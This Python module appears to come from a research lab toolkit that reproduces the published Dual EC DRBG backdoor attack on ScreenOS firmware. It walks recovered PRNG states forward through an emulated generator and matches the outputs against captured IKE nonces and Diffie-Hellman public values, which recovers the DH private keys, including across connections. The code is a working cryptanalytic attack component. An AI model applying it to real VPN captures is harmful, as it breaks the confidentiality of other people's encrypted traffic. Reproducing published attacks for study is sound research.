"""Walk the firmware PRNG forward from recovered states; match DH values and nonces.

An :class:`Anchor` is one candidate state s2 recovered from one observed
32-byte output (a responder nonce).  Walking runs the emulated firmware's own
``prng_generate()`` (:class:`~kleptolab.drbg.screenos.ScreenOsPrng`) from that
state, with the nonce left in the shared output buffer as on the device, so
the BN_bn2bin quirk is reproduced byte for byte.

:class:`PrngWalker` walks every anchor ``steps`` calls ahead once, and then
answers, for every DH public value and nonce in the capture, which anchor and
which draw (offset 1 = the call right after the nonce's call) produced it.
Searching *all* anchors, not only the session's own, is the multi-connection
attack of CCS 2016 §5.5: a key drawn before its own nonce is found from an
earlier connection's nonce.  An anchor placed at a nonce that an earlier walk
predicted (:meth:`PrngWalker.reanchor`) reuses that walk's outputs and only
computes the calls beyond its end, and a DH cut is exponentiated once per
distinct output, so the cost grows with the length of the PRNG stream the
capture covers, not with anchors * steps.
"""

from __future__ import annotations

from dataclasses import dataclass

from kleptolab.drbg.screenos import PrngGeneration, ScreenOsPrng
from kleptolab.ike.dh import DhGroup

__all__ = ["Anchor", "DhMatch", "DrawRef", "PrngWalker", "walk_outputs"]

Point = tuple[int, int]


@dataclass(frozen=True)
class Anchor:
    """A candidate state recovered from ``nonce`` (seen at capture position ``order``)."""

    session: str
    label: str
    order: int
    nonce: bytes
    state: int


@dataclass(frozen=True)
class DrawRef:
    """Output number ``offset`` after ``anchor``'s call (``calls`` outputs consumed)."""

    anchor: Anchor
    offset: int
    calls: int = 1

    def describe(self) -> dict[str, object]:
        """JSON-ready description for report.json."""
        return {
            "anchor_session": self.anchor.session,
            "anchor_nonce": self.anchor.label,
            "anchor_state": f"{self.anchor.state:064x}",
            "anchor_nr": self.anchor.nonce.hex(),
            "offset": self.offset,
            "calls": self.calls,
        }


@dataclass(frozen=True)
class DhMatch:
    """A DH private value predicted by a walk: ``group.public_value(private) == public``."""

    group: DhGroup
    private: int
    draw: DrawRef


def walk_outputs(state: int, q: Point, steps: int, previous: bytes = b"") -> list[bytes]:
    """The next ``steps`` 32-byte ``prng_generate()`` outputs from Dual EC state ``state``.

    ``previous`` is the output buffer's content before the first call (the
    nonce the state was recovered from); it only matters for the BN_bn2bin quirk.
    """
    return _walk(state, q, steps, previous)[0]


def _walk(state: int, q: Point, steps: int, previous: bytes = b"") -> tuple[list[bytes], list[int]]:
    """Outputs and the Dual EC state after each of them."""
    if steps < 0:
        raise ValueError("steps must be >= 0")
    prng = ScreenOsPrng(PrngGeneration.DUALEC_X931, q=q, seed=state, cycle_counter=lambda: 0)
    if previous:
        if len(previous) != 32:
            raise ValueError(f"previous output must be 32 bytes, got {len(previous)}")
        prng.prng_temporary[:] = previous
    outputs, states = [], []
    for _ in range(steps):
        outputs.append(prng.generate())
        assert prng.dual_ec_state is not None
        states.append(prng.dual_ec_state)
    return outputs, states


@dataclass
class _Walk:
    anchor: Anchor
    outputs: list[bytes]
    states: list[int]


class PrngWalker:
    """Walks anchors forward once and matches DH public values and nonces against them."""

    def __init__(self, q: Point, steps: int = 64, exponent_bytes: int = 20) -> None:
        if steps < 1:
            raise ValueError("the walk needs at least one step")
        if not 1 <= exponent_bytes <= 32:
            raise ValueError("exponent_bytes must be in [1, 32]")
        self.q = q
        self.steps = steps
        self.exponent_bytes = exponent_bytes
        self._walks: list[_Walk] = []
        self._walk_of: dict[Anchor, _Walk] = {}  # O(1) lookup for reanchor
        self._by_session: dict[str, list[_Walk]] = {}
        self._by_nonce: dict[bytes, list[Anchor]] = {}
        self._seen: set[tuple[bytes, int]] = set()
        self._outputs: dict[bytes, list[DrawRef]] = {}
        # group number -> (walks indexed so far, public value -> [(private, draw)])
        self._dh_index: dict[int, tuple[int, dict[bytes, list[tuple[int, DrawRef]]]]] = {}
        self._confirmed: dict[Anchor, list[str]] = {}
        self._sources: dict[Anchor, DrawRef] = {}
        # group number -> first output of a cut -> (private, public value, outputs consumed)
        self._cuts: dict[int, dict[bytes, tuple[int, bytes, int]]] = {}
        self._consumed: dict[tuple[int, bytes], list[bytes]] = {}

    @property
    def anchors(self) -> list[Anchor]:
        return [w.anchor for w in self._walks]

    def anchors_for(self, nonce: bytes) -> list[Anchor]:
        """The anchors placed at output ``nonce`` (in the order they were added)."""
        return list(self._by_nonce.get(nonce, []))

    def add(self, anchor: Anchor, prefix: tuple[list[bytes], list[int]] | None = None) -> bool:
        """Walk ``anchor`` (once per nonce and state); False when already walked.

        ``prefix``: outputs and states already known to follow ``anchor`` (from
        an earlier walk through the same calls); only the rest is computed.
        """
        key = (anchor.nonce, anchor.state)
        if key in self._seen:
            return False
        self._seen.add(key)
        outputs, states = ([], []) if prefix is None else (prefix[0][: self.steps], prefix[1][: self.steps])
        if len(outputs) != len(states):
            raise ValueError("prefix outputs and states must have the same length")
        if len(outputs) < self.steps:
            start, previous = (states[-1], outputs[-1]) if outputs else (anchor.state, anchor.nonce)
            more, more_states = _walk(start, self.q, self.steps - len(outputs), previous)
            outputs, states = outputs + more, states + more_states
        walk = _Walk(anchor, outputs, states)
        self._walks.append(walk)
        self._walk_of[anchor] = walk
        self._by_session.setdefault(anchor.session, []).append(walk)
        self._by_nonce.setdefault(anchor.nonce, []).append(anchor)
        for offset, value in enumerate(outputs, start=1):
            self._outputs.setdefault(value, []).append(DrawRef(anchor, offset))
        return True

    def _cut(self, outputs: list[bytes], group: DhGroup, offset: int) -> tuple[int, bytes] | None:
        """(private, public) cut at ``offset`` (1-based), or None past the walk's end.

        Memoised per group on the outputs the cut consumed: overlapping walks
        exponentiate each distinct output once.
        """
        memo = self._cuts.setdefault(group.number, {})
        first = outputs[offset - 1] if offset <= len(outputs) else None
        if first is None:
            return None
        hit = memo.get(first)
        if hit is not None:
            private, public, calls = hit
            if outputs[offset - 1 : offset - 1 + calls] == self._consumed[(group.number, first)]:
                return private, public
        it = iter(outputs[offset - 1 :])
        used: list[bytes] = []

        def draw() -> bytes:
            used.append(next(it))
            return used[-1]

        try:
            private = group.private_from_prng(draw, self.exponent_bytes)
        except StopIteration:
            return None
        public = group.public_value(private)
        memo[first] = (private, public, len(used))
        self._consumed[(group.number, first)] = used
        return private, public

    def _index(self, group: DhGroup) -> dict[bytes, list[tuple[int, DrawRef]]]:
        done, index = self._dh_index.get(group.number, (0, {}))
        calls = 1 if group.kind == "modp" else -(-group.size // 32)
        for walk in self._walks[done:]:
            for offset in range(1, self.steps + 1):
                cut = self._cut(walk.outputs, group, offset)
                if cut is None:
                    break
                index.setdefault(cut[1], []).append((cut[0], DrawRef(walk.anchor, offset, calls)))
        self._dh_index[group.number] = (len(self._walks), index)
        return index

    def find_dh(self, group: DhGroup, public: bytes, prefer: str | None = None) -> DhMatch | None:
        """The draw whose DH cut gives ``public``: ``prefer``'s own anchors first, then the
        smallest offset, then the latest anchor in capture order.

        ``prefer``'s anchors are scanned lazily, offset by offset, so a session unlocked by
        its own nonce costs a few modular exponentiations; only a miss builds the index
        over every anchor (the multi-connection search).
        """
        found = self._scan_own(group, public, prefer) if prefer is not None else None
        if found is None:
            hits = self._index(group).get(public, [])
            if not hits:
                return None
            found = min(
                hits,
                key=lambda h: (h[1].anchor.session != prefer, h[1].offset, -h[1].anchor.order),
            )
        private, draw = found
        self._confirm(draw.anchor, f"predicts a {group.name} public value at offset {draw.offset}")
        return DhMatch(group, private, draw)

    def _scan_own(self, group: DhGroup, public: bytes, session: str) -> tuple[int, DrawRef] | None:
        own = sorted(self._by_session.get(session, []), key=lambda w: -w.anchor.order)
        calls = 1 if group.kind == "modp" else -(-group.size // 32)
        for offset in range(1, self.steps + 1):
            for walk in own:
                cut = self._cut(walk.outputs, group, offset)
                if cut is not None and cut[1] == public:
                    return cut[0], DrawRef(walk.anchor, offset, calls)
        return None

    def _confirm(self, anchor: Anchor, why: str) -> None:
        reasons = self._confirmed.setdefault(anchor, [])
        if why not in reasons:
            reasons.append(why)

    def confirmations(self, anchor: Anchor) -> list[str]:
        """Why ``anchor`` is a true state (empty: unconfirmed, maybe a filter false positive)."""
        return list(self._confirmed.get(anchor, []))

    def reanchor(self, output: bytes, session: str, label: str, order: int) -> list[Anchor]:
        """Anchor at ``output`` for free when a walk predicts it (no sweep): the state after it
        is already known, so the walk goes on from there (the predicting walk's later outputs
        are reused).  Returns the new anchors; :meth:`source` says which draw predicted each."""
        added = []
        for ref in sorted(self.find_output(output), key=lambda r: r.offset):  # nearest first
            walk = self._walk_of[ref.anchor]
            k = ref.offset
            anchor = Anchor(session, label, order, output, walk.states[k - 1])
            if self.add(anchor, (walk.outputs[k:], walk.states[k:])):
                self._confirm(anchor, f"state known from {ref.anchor.label} of {ref.anchor.session}")
                self._sources[anchor] = ref
                added.append(anchor)
        return added

    def source(self, anchor: Anchor) -> DrawRef | None:
        """The draw that predicted ``anchor``'s nonce (None: the state came from a sweep)."""
        return self._sources.get(anchor)

    def predicts(self, output: bytes) -> bool:
        """True when some walk (not anchored at ``output`` itself) produced ``output``."""
        return any(r.anchor.nonce != output for r in self._outputs.get(output, []))

    def find_output(self, output: bytes) -> list[DrawRef]:
        """Every draw equal to ``output`` (e.g. a later nonce predicted by a walk)."""
        refs = [r for r in self._outputs.get(output, []) if r.anchor.nonce != output]
        for r in refs:
            self._confirm(r.anchor, f"predicts nonce {output[:4].hex()}... at offset {r.offset}")
        return refs
